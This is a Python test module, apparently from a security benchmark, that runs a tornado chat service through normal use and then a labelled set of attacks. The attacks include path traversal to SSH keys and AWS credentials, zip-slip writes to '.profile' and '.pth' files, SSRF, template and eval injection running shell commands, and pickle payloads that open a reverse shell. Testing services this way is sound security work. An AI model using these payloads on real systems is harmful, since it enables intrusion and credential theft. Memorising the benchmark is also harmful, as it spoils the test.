# SPDX-License-Identifier: Apache-2.0
"""A tornado service with websockets."""
import base64
import http.client
import io
import json
import os
import pickle
import socket
import struct
import urllib.parse
import zipfile

from attackers import Bomb
import stage

EMOTICONS = {"__init__.py": "def replace(text):\n"
                            '    return text.replace(":)", "smile")\n'}
EMOTICONS_NEW = {
    "__init__.py": "from emoticons.tables import load\n\n\n"
                   "def replace(text):\n"
                   "    for sign, word in load().items():\n"
                   "        text = text.replace(sign, word)\n"
                   "    return text\n",
    "tables.py": "import functools\nimport json\nimport pathlib\n\n\n"
                 "@functools.lru_cache\ndef load():\n"
                 '    path = pathlib.Path(__file__).parent / "data/en.json"\n'
                 "    return json.loads(path.read_text())\n",
    "data/en.json": '{":)": "smile", ":(": "frown"}\n'}


def archive(**members):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name, text in members.items():
            file.writestr(name, text)
    return content.getvalue()


class Line:
    """A websocket of a browser: one text out, one text in."""

    def __init__(self, port, path):
        self.socket = socket.create_connection(("127.0.0.1", port), 10)
        self.file = self.socket.makefile("rb")
        self.socket.sendall(
            f"GET {urllib.parse.quote(path)} HTTP/1.1\r\nHost: x\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}"
            "\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
        self.status = int(self.file.readline().split()[1])
        while self.file.readline().strip():
            pass

    def say(self, **words):
        text = json.dumps(words).encode()
        key = os.urandom(4)
        size = (bytes([0x80 | len(text)]) if len(text) < 126
                else b"\xfe" + struct.pack(">H", len(text)))
        self.socket.sendall(b"\x81" + size + key + bytes(
            byte ^ key[at % 4] for at, byte in enumerate(text)))
        head = self.file.read(2)
        if len(head) < 2 or head[0] != 0x81:
            return {"text": "closed"}
        length = head[1]
        if length == 126:
            length, = struct.unpack(">H", self.file.read(2))
        return json.loads(self.file.read(length))

    def close(self):
        self.file.close()
        self.socket.close()


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost", timeout=10)
        self.path = str(path)

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(self.path)


class TornadoRooms(stage.Service):
    """A chat with websockets, worker processes and files (tornado)."""
    packages = ["python3-tornado"]

    def arrange(self):
        self.install("emoticons", "1.4.0", EMOTICONS)
        stage.write(self.srv / "rooms.ini",
                    f"[rooms]\ncookie_secret = not-{stage.SECRET}\n", 0o600)
        (self.srv / "data").mkdir()

    def arrange_benign(self):
        self.install("emoticons", "1.5.0", EMOTICONS_NEW)

    def command(self):
        return [self.python, "rooms.py", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        self.expect_answer(f"{name} enters", browser.post(
            "/enter", name=name), f"hello {name}")
        return browser

    def talk(self, name, room, *texts):
        """texts: pairs of what is said and what everybody reads."""
        line = Line(self.port("web"), f"/talk/{room}")
        try:
            for text, expected in texts:
                heard = line.say(name=name, text=text)["text"]
                self.expect(f"{name} in {room}: {text}", expected in heard,
                            heard)
        finally:
            line.close()

    def spend_an_hour(self, name, room, file, word, path, formula,
                      old="2025-12-31.jsonl"):
        browser = self.enter(name)
        self.talk(name, room, (f"I like {word} :)", f"{word} smile"),
                  (f"/shout {word}", word.upper()), ("/dice", "came up"))
        self.expect_answer("home", browser.get("/"), room)
        room_ = urllib.parse.quote(room)
        query = "?" + urllib.parse.urlencode({"name": file})
        self.expect_answer(f"{name} puts {file}", browser.fetch(
            f"/files/{room_}{query}", b"bytes" * 90, method="PUT"), "sha256")
        self.expect_answer(f"{name} gets {file}", browser.get(
            f"/files/{room}", name=file), "bytes")
        self.expect_answer(f"{name} looks for {word}", browser.get(
            f"/history/{room}", word=word), word)
        self.expect_answer(f"export of {room}", browser.get(
            f"/export/{room}"), "PK")
        self.expect_answer(f"import to {room}", browser.fetch(
            f"/export/{room_}", archive(**{old: "{}\n"})),
            "taken")
        self.expect_answer(f"preview {path}", browser.get(
            "/preview", url=self.site("web-log").url + path), "a page")
        self.expect_answer("card", browser.post(
            "/card", text="Dear {{ name.title() }}"), "Dear")
        self.expect_answer("restore", browser.fetch(
            "/restore", pickle.dumps({"room": room})), "1 restored")
        self.expect_answer(f"votes {formula}", browser.get(
            "/votes", formula=formula))

    def administer(self, path):
        connection = UnixConnection(self.srv / "data/admin.sock")
        try:
            connection.request("GET", path)
            answer = connection.getresponse()
            self.expect_answer(f"admin {path}", (answer.status,
                                                 answer.read()), "done")
        finally:
            connection.close()

    def train(self, day):
        self.site("web-log").page("*", "a page")
        self.expect_answer("style", self.browser().get("/static/rooms.css"),
                           "navy")
        for name, room, file, word, path, formula, old in (
                ("anna", "garden", "plan.pdf", "roses", "/2026/1", "3 + 4",
                 "2025-12-31.jsonl"),
                ("ben", "kitchen", f"recipe {day}.txt", "soup", "/",
                 "max(3, 4)", "notes/old list.txt"),
                ("carla", "attic", "old.v1.jpg", "dust", "/a.html", "12/4",
                 f"move-{day}.md")):
            self.spend_an_hour(name, room, file, word, path, formula, old)
        self.talk("ben", "garden", ("me, too", "me, too"))
        self.administer("/admin/status")
        self.expect_answer("no page", self.browser().get("/none"),
                           status=404)
        self.expect_answer("nobody", self.browser().post("/card", text="x"),
                           status=403)

    def benign(self):
        self.site("web-log").page("*", "a page")
        for name, room, file, word, path, formula in (
                ("Hans Peter", "Sommer 2026", "Fotos/Berg & Tal.webp", "Takt",
                 "/archive/2026/11/21?x=1", "round(10 / 3, 2)"),
                ("o.brien", "v1.2-beta", "a.b.c.tar.gz", "boat+tide", "/x",
                 "2 ** 8"),
                ("zoe-lu", "garden", "README", "tulips", "/feed.xml", "1")):
            self.spend_an_hour(name, room, file, word, path, formula)
        self.administer("/admin/mute?room=garden")
        browser = self.enter("zoe-lu")
        self.expect_answer("large", browser.fetch(
            "/files/garden?name=film.mkv", b"film" * 90000, method="PUT"),
            "sha256")
        self.expect_answer("no such file", browser.get(
            "/files/garden", name="none.txt"), status=500)
        self.expect_answer("no formula", browser.get(
            "/votes", formula="1/0"), status=500)
        self.expect_answer("no archive", browser.fetch(
            "/export/garden", b"PK no"), status=500)
        self.expect_answer("no such style", browser.get("/static/x.css"),
                           status=404)
        self.expect_answer("deeper archive", browser.fetch(
            "/export/garden", archive(**{
                "2024/12 old/24.jsonl": "{}\n", "notes.md": "x"})), "taken")
        self.restart()
        self.administer("/admin/status")

    def health(self):
        browser = self.enter("anna")
        self.talk("anna", "garden", ("hello :)", "smile"))
        self.expect_answer("put", browser.fetch(
            "/files/garden?name=plan.pdf", b"bytes", method="PUT"), "sha256")
        self.expect_answer("history", browser.get(
            "/history/garden", word="hello"), "smile")

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("mallory").get(path, **query)[1]

    def puts(self, name, content):
        browser = self.enter("mallory")
        browser.fetch("/files/garden?name=plan.pdf", b"x", method="PUT")
        return browser.fetch("/files/garden?" + urllib.parse.urlencode(
            {"name": name}), content, method="PUT")[1]

    def votes(self, formula):
        return self.gets("/votes", formula=formula)

    def executes(self, code):
        return self.votes(f"exec({code!r})")

    def restores(self, *call):
        self.enter("mallory").fetch("/restore", pickle.dumps(Bomb(*call)))

    def renders(self, text):
        return self.enter("mallory").post("/card", text=text)[1]

    @stage.attack("traversal")
    def file_is_a_private_key(self):
        self.puts("plan.pdf", b"x")
        return self.is_told(self.gets(
            "/files/garden", name="../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def file_is_the_source(self):
        self.puts("plan.pdf", b"x")
        return b"HOLE" in self.gets("/files/garden", name="../../../rooms.py")

    @stage.attack("secret disclosure")
    def file_is_the_configuration(self):
        return self.is_told(self.gets(
            "/files/garden", name=f"{self.srv}/rooms.ini"))

    @stage.attack("secret disclosure")
    def file_is_the_map_of_memory(self):
        return b"python3" in self.gets("/files/garden", name="/proc/self/maps")

    @stage.attack("write to code", fresh=True)
    def file_becomes_a_command(self):
        def use(line):
            self.puts("../../../commands/evil.py",
                      f"import os\nos.system('{line}')\n".encode())
            self.talk("mallory", "garden", ("/evil", ""))
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def file_replaces_a_page(self):
        self.puts("../../../pages/home.html", b"planted")
        return "planted" in (self.srv / "pages/home.html").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def archive_appends_to_the_profile(self):
        self.enter("mallory").fetch("/export/garden", archive(**{
            "../../../../home/.profile": "planted"}))
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def archive_holds_a_pth_file(self):
        self.enter("mallory").fetch("/export/garden", archive(**{
            f"{self.site_packages}/x.pth": "import os"}))
        return (self.site_packages / "x.pth").exists()

    @stage.attack("traversal")
    def history_is_of_a_home(self):
        return self.is_told(self.gets(
            "/history/" + urllib.parse.quote("../../../home/.aws"),
            word="password"))

    @stage.attack("SSRF")
    def preview_is_an_internal_service(self):
        return self.fetches_inside(lambda url: self.gets("/preview", url=url))

    @stage.attack("SSRF")
    def preview_is_redirected_inside(self):
        return self.is_redirected_inside(
            "web-log", lambda url: self.gets("/preview", url=url))

    @stage.attack("template injection")
    def card_reads_a_password(self):
        return self.is_told(self.renders(
            f"{{{{ open('{self.home}/.netrc').read() }}}}"))

    @stage.attack("template injection")
    def card_runs_a_command(self):
        return self.runs_line(lambda line: self.renders(
            f"{{% import os %}}{{{{ os.system('{line}') }}}}"))

    @stage.attack("eval injection")
    def formula_runs_a_command(self):
        return self.runs_line(lambda line: self.votes(
            f"__import__('subprocess').call('{line}', shell=True)"))

    @stage.attack("exfiltration")
    def formula_sends_credentials(self):
        return self.steals(self.executes)

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(self.executes)

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.votes)

    @stage.attack("unsafe pickle")
    def state_runs_a_command(self):
        return self.runs_line(lambda line: self.restores(os.system, line))

    @stage.attack("reverse shell")
    def state_calls_home(self):
        return self.calls_home(lambda code: self.restores(exec, code))

    @stage.attack("symlink swap", fresh=True)
    def file_became_a_link(self):
        self.puts("plan.pdf", b"x")
        path = self.srv / "data/files/garden/plan.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.gets("/files/garden", name="plan.pdf"))

    @stage.attack("malicious dependency", fresh=True)
    def emoticons_sends_credentials(self):
        return self.dependency_steals("emoticons", "1.4.1", EMOTICONS,
                                      self.restart)
